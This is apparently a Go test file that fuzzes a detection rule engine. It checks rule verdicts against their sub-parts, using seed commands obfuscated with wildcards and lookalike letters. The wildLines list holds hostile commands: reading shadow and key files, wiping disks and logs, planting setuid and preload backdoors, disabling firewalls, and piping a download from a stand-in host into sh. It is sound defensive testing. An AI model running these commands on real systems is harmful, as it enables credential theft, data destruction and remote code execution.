package rules_test

import (
	"testing"

	"ttpctl/internal/engine"
	"ttpctl/internal/event"
	"ttpctl/internal/rounds"
)

// holds puts the verdict of a part together from those of the tests below it, each of
// which was asked about every command, and reports a part that says otherwise.
func holds(t *testing.T, what string, p *engine.Part) bool {
	all, any := true, false
	for i := range p.Parts {
		held := holds(t, what, &p.Parts[i])
		all, any = all && held, any || held
	}
	want := p.Holds
	switch p.Op {
	case "all_of":
		want = all
	case "any_of":
		want = any
	case "none_of":
		want = !any
	}
	if p.Holds != want {
		t.Errorf("%s: %s holds is %v, want %v of its parts", what, p.Op, p.Holds, want)
	}
	return want
}

// glance checks on one line that no block of the pack is passed over, by what the
// sketch of the line says, that holds on one of its commands.
func glance(t *testing.T, snap *engine.Snapshot, sc *engine.Scratch, line string) {
	var ev event.Event
	setCommand(&ev, line)
	for _, r := range snap.Ruleset().Rules() {
		x, _ := snap.Explain(&ev, reviewed, sc, r.ID)
		if x.Parts == nil || x.Verdict == engine.OtherKind || x.Verdict == engine.Panicked {
			continue
		}
		what := r.ID + " on " + line
		if held := holds(t, what, x.Parts); held != (x.Verdict != engine.NoMatch) && x.Parts.Op != "sequence" {
			t.Errorf("%s: %s, and its parts hold: %v", what, x.Verdict, held)
		}
	}
	sc.TakeSightings(nil)
}

// wildLines are typed with wildcards, odd letters, wrappers and wherever else a sketch
// may think that something is not there.
var wildLines = []string{
	"cat /etc/sh*ow", "cat /???/shadow", "cat /e**w /etc/**dow", "find / -name 'id_*' -o -name '*.pem' -exec cat {} \\;", "rm -rf /var/log/*", "cp /bin/bash /tmp/.x; chmod u+s /tmp/.x",
	"\u212aill -9 1", "cat /etc/\u017fhadow", "sudo -u root sh -c 'nohup /tmp/x &'", "busybox wget -O- http://192.0.2.1/x | sh", "cd /etc; cat shadow >> ~/.ssh/authorized_keys",
	"tar --checkpoint-action=exec=sh x", "dd if=/dev/zero of=/dev/sda", "systemctl disable --now firewalld", "echo x > /etc/ld.so.preload", "usermod -aG sudo bob; passwd", "X=1 LD_PRELOAD=/tmp/x.so ls",
	"echo aWQ= | base64 --decode | sh", "strings a | GREP -i XMRIG; ps | grep -i TracerPID",
	"xargs -0 shred -u < f", "find . -name '*.PNG' -delete", "openssl enc -d -base64 | bash -s", "python3 -c 'import pty;pty.spawn(\"/bin/sh\")'",
}

func FuzzGlance(f *testing.F) {
	for _, line := range wildLines {
		f.Add(line)
	}
	snap, sc := wholePack(f), engine.NewScratch()
	f.Fuzz(func(t *testing.T, line string) { glance(t, snap, sc, line) })
}

// TestGlance is FuzzGlance on examples of the pack, of which every rule holds on some.
func TestGlance(t *testing.T) {
	t.Parallel()
	snap, sc, lines := wholePack(t), engine.NewScratch(), exampleLines(t)
	for i := 0; i < len(lines); i += 61 * rounds.Every(t, 8) { // explaining all rules takes its time
		glance(t, snap, sc, lines[i])
	}
}
